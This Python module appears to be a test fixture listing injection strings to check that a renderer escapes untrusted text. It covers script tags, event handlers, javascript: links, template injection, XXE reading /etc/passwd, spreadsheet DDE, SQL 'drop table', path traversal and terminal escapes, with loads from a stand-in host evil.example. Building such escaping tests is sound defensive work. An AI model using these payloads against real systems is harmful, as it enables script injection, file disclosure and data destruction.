"""What a stranger's file may say: texts that become something else where one place forgets to escape.

A script in one of them calls `pwned(NAME)`, or fetches `/pwned`; an address of one leads to EVIL. So a browser can tell
whether any of them came to something. Families: markup, events, addresses, Markdown, templates, scripts and data within
pages, drawings and feeds, styles, spreadsheets, queries, file names, terminals, writing directions, and texts that no
layout was made for.
"""

EVIL = "evil.example"


def _run(name: str) -> str:
    return f"pwned(`{name}`)"


MARKUP = [
    "<script>JS</script>",
    "<ScRiPt>JS</sCrIpT >",
    "<script src=//EVIL/x.js></script>",
    "<script type=module>import '//EVIL/x.mjs'</script>",
    "<scr<script>ipt>JS</script>",
    "</script><script>JS</script>",
    "</title><script>JS</script>",
    "</textarea></style></noscript><script>JS</script>",
    "</td></tr></table></div></figure></details></code></pre><script>JS</script>",
    "<iframe src=javascript:JS></iframe>",
    "<iframe srcdoc='<script>parent.JS</script>'></iframe>",
    "<object data=//EVIL/x></object><embed src=//EVIL/x>",
    "<base href=//EVIL/>",
    "<meta http-equiv=refresh content='0;url=//EVIL/'>",
    "<link rel=stylesheet href=//EVIL/x.css>",
    "<form action=//EVIL/><button autofocus>send</button></form>",
    "<template><script>JS</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=JS>'>",
    "<!--><script>JS</script>-->",
    "<!-- comment --> <![CDATA[ x ]]> <?php ?> <!DOCTYPE x>",
    "<math><mi//xlink:href='data:x,<script>JS</script>'>",
    "<custom-element is=x></custom-element>",
    "&lt;script&gt;JS&lt;/script&gt; &amp; &#60;b&#62; &notanentity;",
    "<b>bold</b> <i>slanted</i> <h1>Heading</h1> <marquee>moving",
    "<portal src=//EVIL/></portal><fencedframe src=//EVIL/>",
]
EVENTS = [
    "<img src=x onerror=JS>",
    "<img src=x onerror='JS'//",
    "<svg onload=JS>",
    "<svg/onload=JS//",
    "<body onload=JS onpageshow=JS>",
    "<input autofocus onfocus=JS>",
    "<details open ontoggle=JS><summary>x</summary></details>",
    "<video><source onerror=JS></video><audio src=x onerror=JS>",
    "<a href=# onclick=JS style='position:fixed;inset:0'>anywhere</a>",
    "<p style=animation-name:x onanimationstart=JS onpointerenter=JS>",
    '" onmouseover="JS" onfocus="JS" autofocus="',
    "' onmouseover='JS' onfocus='JS' autofocus='",
    "` onmouseover=JS autofocus=`",
    'x" style="display:block" data-machine="*',
    '"><img src=x onerror=JS>',
    "'><img src=x onerror=JS>",
    "--><img src=x onerror=JS>",
    "x onerror=JS y=",
]
ADDRESSES = [
    "javascript:JS",
    "JaVaScRiPt:JS",
    "java\tscript:JS",
    " \x01javascript:JS",
    "data:text/html,<script>JS</script>",
    "vbscript:JS",
    "//EVIL/x",
    "https://EVIL/x www.EVIL someone@EVIL",
    "<a href=javascript:JS>here</a>",
    "<a href=//EVIL/ ping=//EVIL/>here</a>",
    "#a=x&b=<img src=x onerror=JS>",
]
MARKDOWN = [
    "[here](javascript:JS)",
    "](javascript:JS)",
    "![x](//EVIL/pixel.png)",
    "![x][ref]\n\n[ref]: //EVIL/pixel.png",
    "<javascript:JS> <https://EVIL/>",
    "`code` ``` ~~~ ```html",
    "```\n</code></pre><script>JS</script>\n```",
    "| a | b |\n|---|---|\n| c | <img src=x onerror=JS> |",
    "one\n\n# Heading\n\n- item\n\n    indented\n\n<b>",
    "*stars* _lines_ **bold** ~~gone~~ \\* \\",
    "!!! danger\n    text",
    '=== "Tab"\n\n    text',
    '<div markdown="1">**bold** <img src=x onerror=JS></div>',
    "{: onclick=JS .evil #id } {#id onclick=JS}",
    '---\ndescription: "x"\ntemplate: evil.html\n---\n# Title',
    '--8<-- "/etc/passwd"',
    "*[HTML]: <img src=x onerror=JS>",
    "[^1]: note\n[TOC] :material-skull:{ onclick=JS }",
    "wzxhzdk:0 \x02wzxhzdk:1\x03 \x02klzzwxh:0001\x03",
    '<div data-block="0"></div>',
    "@everyone #1 GH-1 deadbeef https://EVIL/",
]
TEMPLATES = [
    "{{ 7*7 }} {% raw %} {# note #}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include '/etc/passwd' %}{% endraw %}{% endblock %}",
    "{0} {name} {} %s %(x)s ${JS} #{JS} <%= JS %>",
    "{{constructor.constructor('JS')()}}",
]
DATA_IN_PAGES = [
    "\"}]}' onerror=JS data-x='{",
    "</script><!--<script>JS</script>",
    "\\u003cscript\\u003eJS\\u003c/script\\u003e",
    '\\");JS;//',
    "'];JS;//",
    "x\u2028JS\u2029y",
    "datum.constructor.constructor('JS')()",
    "' || JS || '",
    '"+JS+"',
    "event.view.JS",
    '{"signal": "JS"}',
    "[click](javascript:JS) datum['x'] \\\\",
    "__proto__",
    "constructor",
    "NaN",
    "null",
]
DRAWN = [
    "<svg><script>JS</script></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' onload='JS'><text>x</text></svg>",
    "</text><script>JS</script><text>",
    "]]><svg onload=JS>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=JS/>#x'/></svg>",
    "<svg><animate onbegin=JS attributeName=x dur=1s></svg>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "</title><entry><title>forged</title></entry>",
    "<x xmlns='urn:x'>&#0; &#xFFFE; &undefined;",
]
STYLES = [
    "<style>body{display:none}</style>",
    "<style>@import '//EVIL/x.css';</style>",
    "x;background:url(//EVIL/x)",
    "expression(JS) -moz-binding:url(//EVIL/)",
    '"]{} *{background:url(//EVIL/x)} [x="',
    "</style><img src=x onerror=JS>",
    'red" /><image href="//EVIL/x.png"/><rect fill="red',
]
SPREADSHEETS = [
    "=1+1",
    '=HYPERLINK("//EVIL/"&A1,"here")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=1+1",
    "＝1+1",
    'a,b;"c"\n=1+1',
]
QUERIES = [
    "'; drop table raw_operations; --",
    "' or 1=1 --",
    "$value $1 ? ::int",
    "*[!a-z]?{x}\\",
]
FILE_NAMES = [
    "../../../../etc/passwd",
    "..\\..\\con.txt",
    "/etc/passwd",
    "-rf $(touch pwned) `id` && id | id > x",
    "%2e%2e%2f%00 .htaccess CON aux.md",
]
TERMINALS = [
    "\x1b]0;title\x07\x1b[2J\x1b[31mred",
    "\x9b31m\x9d0;title\x9c",
    "[bold red]x[/bold red] [link=//EVIL/]x[/link] [/]",
    "over\rwritten\x08\x08\x7f",
    "\x00\x01\x0b\x0c\x1f\ufffe\uffff",
]
DIRECTIONS = [
    "\u202egnp.exe\u202c \u2066\u2067x\u2069",
    "\u200e\u200f\u061c\u200b\u2060\ufeff",
    "שלום مرحبا 12",
    "通义千问 ｆｕｌｌｗｉｄｔｈ ＜script＞",
]
# Where nothing breaks a line, or a line is higher than a line.
LAYOUT = [
    "W" * 10_000,
    "Ｗ" * 2_000,
    "Z" + "\u0351\u0302\u0316" * 60,
    "a\u00a0" * 1_000,
    "\n" * 300 + "below",
    "𒐫" * 200,
    "https://" + "very-long-" * 200,
    "x " * 3_000,
]
FAMILIES = {
    "markup": MARKUP,
    "events": EVENTS,
    "addresses": ADDRESSES,
    "markdown": MARKDOWN,
    "templates": TEMPLATES,
    "data": DATA_IN_PAGES,
    "drawn": DRAWN,
    "styles": STYLES,
    "spreadsheets": SPREADSHEETS,
    "queries": QUERIES,
    "files": FILE_NAMES,
    "terminals": TERMINALS,
    "directions": DIRECTIONS,
    "layout": LAYOUT,
}
PAYLOADS = {
    f"{family}-{number}": text.replace("JS", _run(f"{family}-{number}")).replace("EVIL", EVIL)
    for family, texts in FAMILIES.items()
    for number, text in enumerate(texts, start=1)
}
# All in one, so that one value holds each: what a value begins with is tried by those that stand alone.
TOGETHER = "a " + " ".join(text for name, text in PAYLOADS.items() if not name.startswith("layout"))
STRETCHED = "b " + " ".join(LAYOUT)
